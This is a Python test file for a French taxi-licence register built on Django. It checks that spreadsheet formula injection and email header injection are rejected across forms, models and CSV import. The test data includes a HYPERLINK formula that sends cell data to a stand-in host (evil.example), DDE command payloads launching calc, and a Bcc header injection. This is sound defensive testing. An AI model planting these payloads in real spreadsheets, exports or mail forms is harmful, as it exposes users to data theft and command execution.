"""Values a spreadsheet would run as formulas are refused where they enter the register
(the open data publishes it nationally: a manager's ``=HYPERLINK(…)`` went out raw in
``ads.csv``), with a French message on the field; numbers and phone numbers that start
with a sign stay accepted. A campaign's subject holds no line break: it becomes a mail
header. (The spreadsheet import: ``test_import_bad_input.py``.)"""

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from mesads.ads.models import ADS, Driver
from mesads.core.validators import looks_like_formula
from mesads.lifecycle.models import Transfer
from mesads.reminders.models import Campaign
from mesads.waitinglists.models import Application
from tests.ads.test_ads_edit import declare, edit
from tests.waitinglists.test_waiting_lists import _apply, _form
from tests.waitinglists.test_waiting_lists_files import _csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"ouvrir")'
MESSAGE = "un tableur le prendrait pour une formule"


@pytest.mark.parametrize(
    "value",
    [
        HYPERLINK,
        "=1+1",
        "@SUM(A1)",
        "+A1",
        "-A1",
        "- Taxi",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+33 6 12 34 56 78 appeler",
        "\t=1",
        "\r=1",
        "  =1",
        "=",
        "-",
    ],
)
def test_what_a_spreadsheet_would_run_is_a_formula(value):
    assert looks_like_formula(value)


@pytest.mark.parametrize(
    "value",
    [
        "",
        "12",
        "-12",
        "+12",
        "A-07",
        "+33 6 12 34 56 78",
        "+33 (0)1 23 45 67 89",
        "-1.5",
        "12/2014",
        "Taxi = bien",
        "Les Taxis d’Alain",
        "'=1+1",  # an apostrophe: text for every spreadsheet
        "＝1+1",  # a fullwidth sign: text too
    ],
)
def test_numbers_phones_and_text_are_not(value):
    assert not looks_like_formula(value)


def test_a_manager_cannot_name_an_ads_with_a_formula(client, manager, nimes):
    client.force_login(manager)
    _, response = declare(client, nimes, number=HYPERLINK)
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert MESSAGE in errors["number"][0]
    assert not ADS.objects.exists()


@pytest.mark.parametrize(
    "field", ["holder_name", "holder_email", "notes", "drivers-0-name", "drivers-0-card_number"]
)
def test_nor_a_holder_a_note_or_a_driver(client, manager, complete_ads, field):
    client.force_login(manager)
    before = (complete_ads.version, Driver.objects.count())
    value = "=1+1" if field != "holder_email" else "=1+cmd@evil.example"
    response = edit(client, complete_ads, **{field: value})
    assert response.status_code == 200
    assert MESSAGE in response.content.decode()
    complete_ads.refresh_from_db()
    assert (complete_ads.version, Driver.objects.count()) == before


def test_a_phone_number_with_its_sign_is_kept(client, manager, complete_ads):
    client.force_login(manager)
    response = edit(client, complete_ads, holder_phone="+33 6 12 34 56 78", number="-12")
    assert response.redirect_chain, response.content.decode()
    complete_ads.refresh_from_db()
    assert complete_ads.number == "-12"


def test_the_models_refuse_it_too(complete_ads):
    complete_ads.holder_name = "@SUM(A1)"
    with pytest.raises(ValidationError) as refused:
        complete_ads.full_clean()
    assert MESSAGE in refused.value.message_dict["holder_name"][0]
    driver = complete_ads.drivers.first()
    driver.name = "-cmd"
    with pytest.raises(ValidationError) as refused:
        driver.full_clean()
    assert "name" in refused.value.message_dict


@pytest.mark.parametrize(
    "field", ["number", "applicant_name", "applicant_address", "card_number", "applicant_email"]
)
def test_a_waiting_list_application_refuses_a_formula(client, manager, nimes, gard, field):
    client.force_login(manager)
    value = "=1+cmd@evil.example" if field == "applicant_email" else HYPERLINK[:50]
    response = client.post(
        reverse("waitinglists:create", args=[nimes.pk]), _form(gard, **{field: value})
    )
    assert response.status_code == 200
    assert MESSAGE in response.context["form"].errors[field][0]
    assert not Application.objects.exists()


def test_a_removal_comment_refuses_a_formula(client, manager, nimes, gard):
    application = _apply(nimes, gard, "Léa Fabre", "CP-1")
    client.force_login(manager)
    url = reverse("waitinglists:remove", args=[application.pk])
    response = client.post(url, {"reason": "other", "comment": "=1+1"})
    assert MESSAGE in response.context["form"].errors["comment"][0]
    application.refresh_from_db()
    assert application.state == Application.State.ACTIVE


@pytest.mark.parametrize(
    "subject",
    ["Relance\r\nBcc: attacker@evil.example", "Relance\nBcc: x@y.z", "Relance\u2028Bcc: x@y.z"],
)
def test_a_campaign_subject_with_a_line_break_is_refused(client, staff, subject):
    client.force_login(staff)
    response = client.post(
        reverse("reminders:campaign_create"),
        {"target": "jamais", "departement": "", "subject": subject, "body": ""},
    )
    assert response.status_code == 200
    assert "doit tenir sur une ligne" in response.context["form"].errors["subject"][0]
    assert not Campaign.objects.exists()


def test_a_transfers_names_refuse_a_formula(complete_ads):
    transfer = Transfer(seller_name="Taxi Arènes SARL", buyer_name="+cmd|' /C calc'!A0")
    with pytest.raises(ValidationError) as refused:
        transfer.clean_fields()
    assert MESSAGE in refused.value.message_dict["buyer_name"][0]
    assert "seller_name" not in refused.value.message_dict


def test_a_waiting_list_import_names_the_row_and_column_of_a_formula(client, manager, nimes, gard):
    client.force_login(manager)
    upload = _csv(
        ["10", "15/03/2025", "09:30", "=1+1", "", "", "CP-30-1111", "30", "Non"],
        ["11", "15/03/2025", "09:30", "Anne Blanc", "", "", "@SOMME(A1)", "30", "Non"],
    )
    response = client.post(reverse("waitinglists:import", args=[nimes.pk]), {"import_file": upload})
    issues = [(i.line, i.column) for i in response.context["result"].issues if MESSAGE in i.message]
    assert issues == [(2, "Nom et prénom du demandeur"), (3, "Numéro de carte professionnelle")]
    assert not Application.objects.exists()
